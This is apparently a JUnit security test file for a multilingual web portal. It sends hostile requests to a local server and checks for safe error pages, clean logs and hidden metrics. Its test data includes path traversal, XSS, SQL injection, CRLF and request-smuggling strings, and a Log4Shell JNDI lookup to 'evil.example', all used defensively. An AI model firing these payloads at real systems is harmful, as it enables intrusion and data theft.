package eu.tiltas;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assumptions.assumeThat;

import java.io.IOException;
import java.net.Inet4Address;
import java.net.InetAddress;
import java.net.NetworkInterface;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Whatever is sent, the answer is a page of the site with the right status, and the log keeps its form. */
@ExtendWith(OwnContent.class)
class HostileIT {

    private static PortalProcess portal;

    @BeforeAll
    static void share(PortalProcess shared) {
        portal = shared;
    }

    /** Status, language, and what stands in the request line. */
    static Stream<List<String>> addresses() {
        return Stream.of(
                        "400 en /en/%",
                        "400 lt /lt/%E0%A4%A",
                        "400 lv /lv/%zz",
                        "400 sv /sv/%ff",
                        "400 en /en/%c0%af",
                        "400 en /en/%00",
                        "400 en /en/news%00.html",
                        "400 en /en/a%0d%0aSet-Cookie:%20a=b",
                        "400 en /en/a%09b",
                        "400 en /en/\u00e4",
                        "400 en /en/\u0001",
                        "400 lt /lt/../en/",
                        "400 lt /lt/./",
                        "400 lt /lt/..",
                        "400 lt /lt/%2e%2e/en/",
                        "400 lv /lv/..%2f..%2fetc%2fpasswd",
                        "400 lv /lv/a%2fb",
                        "400 lv /lv/a%5cb",
                        "400 lv /lv/a\\b",
                        "400 sv /sv//nyheter",
                        "400 en //evil.example/",
                        "400 en //evil.example/%2f..",
                        "400 en /%2f%2fevil.example/",
                        "400 en /../../../../etc/passwd",
                        "400 en /en/;jsessionid=1",
                        "400 en /en/search;jsessionid=1",
                        "400 en /en;a=b/search",
                        "400 en /en/news?unknown=1",
                        "400 en /en/news?utm_source=x&unknown=1",
                        "400 en /en/?page=-1",
                        "400 lt /lt/paieska?q=a&q=b",
                        "400 lt /lt/paieska?q=%",
                        "400 lt /lt/paieska?q=%ff",
                        "400 lt /lt/paieska?q=a%00",
                        "400 lt /lt/paieska?q=a&size=5",
                        "400 lt /lt/paieska?q=a&page=0",
                        "400 lt /lt/paieska?q=a&page=1001",
                        "400 lt /lt/paieska?q=a&page=x",
                        "400 lt /lt/paieska?q=a&sort=evil",
                        "400 lt /lt/paieska?q=a&section=../..",
                        "400 lt /lt/paieska?q=a&type=%3Cscript%3E",
                        "400 lt /lt/paieska?%=1",
                        "404 en /WEB-INF/web.xml",
                        "404 en /web-inf/classes/META-INF/persistence.xml",
                        "404 en /META-INF/MANIFEST.MF",
                        "404 en /%57EB-INF/web.xml",
                        "404 en /views/page.xhtml",
                        "404 en /en/page.xhtml",
                        "404 en /jakarta.faces.resource/jsf.js.xhtml",
                        "400 en /javax.faces.resource/x.xhtml?ln=..",
                        "404 en /index.jsp",
                        "404 en /.git/config",
                        "404 en /.env",
                        "404 en /wp-login.php",
                        "404 en /id/",
                        "404 en /id/nothing",
                        "404 en /id/a'b",
                        "404 en /en/%3Cscript%3Ealert(1)%3C/script%3E",
                        "404 lt /lt/readmisijos%20sutartys",
                        "404 sv /sv/%C3%A5terv%C3%A4nda",
                        "404 lv /lv/%F0%9F%98%80",
                        "404 en /en/%D7%A9%D7%9C%D7%95%D7%9D",
                        "404 en /de/",
                        "404 en /EN/",
                        "404 en /en/NEWS",
                        "404 en /en/news/2024")
                .map(line -> List.of(line.split(" ", 3)));
    }

    @ParameterizedTest
    @MethodSource("addresses")
    void aWrongAddressIsAnsweredByAPageOfTheSite(List<String> row) {
        Reply reply = portal.get(row.get(2));

        assertThat(reply.status()).isEqualTo(Integer.parseInt(row.get(0)));
        Sanity.page(reply, row.get(1));
        Sanity.discreet(reply);
        assertThat(reply.text()).doesNotContain("<script>alert");
    }

    @ParameterizedTest
    @CsvSource({"1000, 404", "1001, 400", "4000, 400", "7000, 400"})
    void anEndlessAddressIsRefused(int length, int status) {
        Reply reply = portal.get("/lt/" + "a".repeat(length - "/lt/".length()));

        assertThat(reply.status()).isEqualTo(status);
        Sanity.page(reply, "lt");
        Sanity.discreet(reply);
    }

    @Test
    void anAddressBeyondWhatTheConnectorReadsIsRefusedWithoutANameOfIt() {
        Reply reply = portal.get("/en/" + "a".repeat(100_000));

        assertThat(reply.status()).isEqualTo(400);
        assertThat(reply.header("Server")).isIn("", "Tiltas");
        Sanity.discreet(reply);
    }

    @Test
    void theErrorPageOfAnAddressWithoutLanguageIsInTheBrowsersLanguage() {
        Sanity.page(portal.get("/nothing", "Accept-Language: lv"), "lv");
        Sanity.page(portal.get("/%", "Accept-Language: sv"), "sv");
    }

    @ParameterizedTest
    @ValueSource(strings = {"/lt/nothing", "/lt/%", "/lt/paieska?page=0", "/lt/a-z?unknown=1"})
    void anErrorThatNoLanguageSharesNamesTheHomePagesInsteadOfSwitchingToThem(String target) {
        Reply reply = portal.get(target);

        assertThat(reply.text())
                .doesNotContain("class=\"langs\"")
                .contains(
                        "<a href=\"/lv/\" lang=\"lv\" hreflang=\"lv\">Sākumlapa latviešu valodā</a>",
                        "<a href=\"/sv/\" lang=\"sv\" hreflang=\"sv\">Startsidan på svenska</a>",
                        "<a href=\"/en/\" lang=\"en\" hreflang=\"en\">Home page in English</a>");
    }

    @Test
    void anErrorPageIsNotKeptByCaches() {
        assertThat(portal.get("/en/nothing").header("Cache-Control")).isEqualTo("no-store");
    }

    static Stream<String> questions() {
        return Stream.of(
                "\"readmission",
                "\"\"",
                "\"",
                "„susitarimas",
                "AND OR NOT",
                "NOT",
                "- - -",
                "-",
                "+-&&||!(){}[]^~*?:\\/",
                "((((((((((",
                "*",
                "?*",
                "a*",
                "title:a",
                "[a TO b]",
                "{!lucene q.op=AND}a",
                "readmission^99999999999",
                "readmission~99",
                "/(a+)+b/",
                "<script>alert(1)</script>",
                "\"><img src=x onerror=alert(1)>",
                "#{70107*3}",
                "${70107*3}",
                "${jndi:ldap://evil.example/a}",
                "' OR 1=1 --",
                "'; DROP TABLE page; --",
                "😀👩‍👩‍👧‍👦🇱🇹",
                "الهجرة الدولية",
                "\u202eabc\u202c",
                "שלום עולם",
                "迁移合作",
                "a\u0301\u0302\u0303\u0304",
                "\ud83d",
                "\ufffe\uffff",
                "\u200b\u200b",
                "   ",
                "ąčęėįšųūž āčēģīķļņšūž åäö",
                "a".repeat(300),
                "-a ".repeat(100),
                "\"a b\" ".repeat(50));
    }

    @ParameterizedTest
    @MethodSource("questions")
    void anyQuestionIsAnswered(String question) {
        String parameter = URLEncoder.encode(question, StandardCharsets.UTF_8);
        Reply reply = portal.get("/sv/sok?q=" + parameter);

        assertThat(reply.status()).isEqualTo(200);
        Sanity.page(reply, "sv");
        assertThat(reply.text()).doesNotContain("<script>alert", "<img src=x", "210321");
    }

    @ParameterizedTest
    @MethodSource("questions")
    void programsMayAskAnythingToo(String question) {
        String parameter = URLEncoder.encode(question, StandardCharsets.UTF_8);

        for (String address : List.of("/api/v1/search?q=", "/api/v1/suggest?q=", "/api/v1/suggest/opensearch?q=")) {
            Reply reply = portal.get(address + parameter + "&lang=lv");
            assertThat(reply.status()).isIn(200, 400);
            Sanity.headers(reply);
            Sanity.discreet(reply);
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"a", "%C5%BE", "%F0%9F%98%80"})
    void aQuestionOfMoreThanThreeHundredCharactersIsCutForReadersAndRefusedToPrograms(String letter) {
        Reply reply = portal.get("/lv/meklesana?q=" + letter.repeat(301));

        assertThat(reply.status()).isEqualTo(200);
        Sanity.page(reply, "lv");
        assertThat(portal.get("/api/v1/search?q=" + letter.repeat(301)).status())
                .isEqualTo(400);
        assertThat(portal.get("/api/v1/suggest?q=" + letter.repeat(301)).status())
                .isEqualTo(400);
    }

    @ParameterizedTest
    @CsvSource({
        "/en/%61-z, /en/a-z",
        "/lt/%4e%65, /lt/Ne",
        "/en/%7Ex, /en/~x",
        "/id/a%27b, /id/a'b",
        "/sv/%c3%a5, /sv/%C3%A5"
    })
    void anotherSpellingLeadsToTheOneOfTheSite(String spelling, String canonical) {
        Reply reply = portal.get(spelling);

        assertThat(reply.status()).isEqualTo(301);
        assertThat(reply.header("Location")).isEqualTo(canonical);
        assertThat(portal.get(canonical).status()).isIn(200, 404);
    }

    @Test
    void aQuestionOfFourThousandCharactersIsRefused() {
        Reply reply = portal.get("/lv/meklesana?q=" + "a".repeat(4_000));

        assertThat(reply.status()).isEqualTo(400);
        Sanity.page(reply, "lv");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"utm_source=x", "utm_source=x&utm_medium=y&utm_campaign=z", "fbclid=a", "gclid=b&msclkid=c"})
    void whatOthersHangOnAnAddressIsTakenOff(String parameters) {
        Reply reply = portal.get("/lv/jaunumi?" + parameters);

        assertThat(reply.status()).isEqualTo(301);
        assertThat(reply.header("Location")).isEqualTo("/lv/jaunumi");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Host: evil.example",
                "X-Forwarded-Host: evil.example",
                "Forwarded: host=evil.example",
                "X-Original-URL: /en/nothing",
                "X-Rewrite-URL: /en/nothing",
                "X-HTTP-Method-Override: DELETE"
            })
    void noHeaderMovesThePortalElsewhere(String header) {
        Reply reply = portal.get("/en/", header);

        assertThat(reply.status()).isEqualTo(200);
        assertThat(reply.text()).doesNotContain("evil.example");
    }

    @ParameterizedTest
    @ValueSource(strings = {"GET", "HEAD", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "get", "X"})
    void noMethodBringsOutTheServer(String method) {
        for (String target :
                List.of("/en/", "/", "/api/v1/search?q=x", "/api/v1/nothing", "/health/ready", "/openapi", "/sv/%")) {
            Reply reply = portal.send(method, target);
            assertThat(reply.status()).as(method + ' ' + target).isLessThan(500);
            Sanity.headers(reply);
            if (reply.status() >= 400) {
                Sanity.discreet(reply);
            }
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/health/nothing",
                "/health/ready/x",
                "/openapi/x",
                "/metrics",
                "/metrics/x",
                "/api/v1/",
                "/health%2f"
            })
    void whatTheServerAnswersByItselfDoesNotNameIt(String target) {
        Reply reply = portal.get(target);

        Sanity.headers(reply);
        Sanity.discreet(reply);
        assertThat(reply.status()).isLessThan(500);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "GET /en/ HTTP/1.1\r\nConnection: close\r\n\r\n",
                "GET /en/ HTTP/9.9\r\nHost: localhost\r\nConnection: close\r\n\r\n",
                "POST /en/ HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n\r\n",
                "POST /api/v1/import HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n\r\n",
                "GET /en/ HTTP/1.1\r\nHost: a\r\nHost: b\r\nConnection: close\r\n\r\n",
                "GET /en/ HTTP/1.1\r\nHost: localhost\r\nContent-Length: x\r\nConnection: close\r\n\r\n",
                "GET  HTTP/1.1\r\nHost: localhost\r\n\r\n"
            })
    void whatIsHardlyHttpGetsAnAnswerThatNamesNoServer(String request) {
        Reply reply = portal.sendRaw(request);

        assertThat(reply.header("Server")).isIn("", "Tiltas");
        assertThat(reply.headers()).doesNotContainKeys("set-cookie", "x-powered-by");
        Sanity.discreet(reply);
    }

    @Test
    void aProgramOnTheSameMachineReadsTheMetrics() {
        Reply reply = portal.get("/metrics");

        assertThat(reply.status()).isEqualTo(200);
        assertThat(reply.text()).contains("# TYPE ");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "X-Forwarded-For: 192.0.2.1",
                "X-Forwarded-For: 127.0.0.1",
                "Forwarded: for=192.0.2.1",
                "X-Real-IP: 192.0.2.1",
                "Via: 1.1 proxy"
            })
    void metricsAreNoPageForThoseBehindAProxy(String header) {
        Reply reply = portal.get("/metrics", header);

        assertThat(reply.status()).isEqualTo(404);
        Sanity.page(reply, "en");
        Sanity.discreet(reply);
    }

    @Test
    void metricsAreNoPageForOtherMachines() throws IOException {
        List<InetAddress> addresses = NetworkInterface.networkInterfaces()
                .flatMap(NetworkInterface::inetAddresses)
                .filter(address -> address instanceof Inet4Address && !address.isLoopbackAddress())
                .toList();
        assumeThat(addresses).as("a network").isNotEmpty();

        assertThat(addresses).allSatisfy(address -> assertThat(
                        new Wire(address, portal.port()).get("/metrics").status())
                .isEqualTo(404));
    }

    @Test
    void whatAVisitorTypedForgesNoLineOfTheLog() {
        portal.get("/en/%0a%0dFORGED-LINE");
        portal.get("/en/search?q=%0aFORGED-LINE");
        portal.get("/api/v1/search?q=x&lang=%0aFORGED-LINE");

        assertThat(portal.log()).doesNotContain("FORGED-LINE");
    }

    @Test
    void whatAVisitorTypedIsNotLogged() {
        for (String target : List.of("/en/search?q=PRIVATE%", "/en/PRIVATE%", "/en/?PRIVATE%=1", "/en/?x=PRIVATE%ff")) {
            portal.get(target);
        }
        for (String target : List.of("/api/v1/search?q=PRIVATE%", "/api/PRIVATE%", "/health/ready?q=PRIVATE%")) {
            portal.get(target);
        }

        assertThat(portal.log()).doesNotContain("PRIVATE");
    }

    @Test
    void nothingOfAllThisIsAFaultOfThePortal() {
        addresses().forEach(row -> portal.get(row.get(2)));
        questions().forEach(q -> portal.get("/en/search?q=" + URLEncoder.encode(q, StandardCharsets.UTF_8)));

        assertThat(portal.log()).doesNotContain("SEVERE");
    }
}
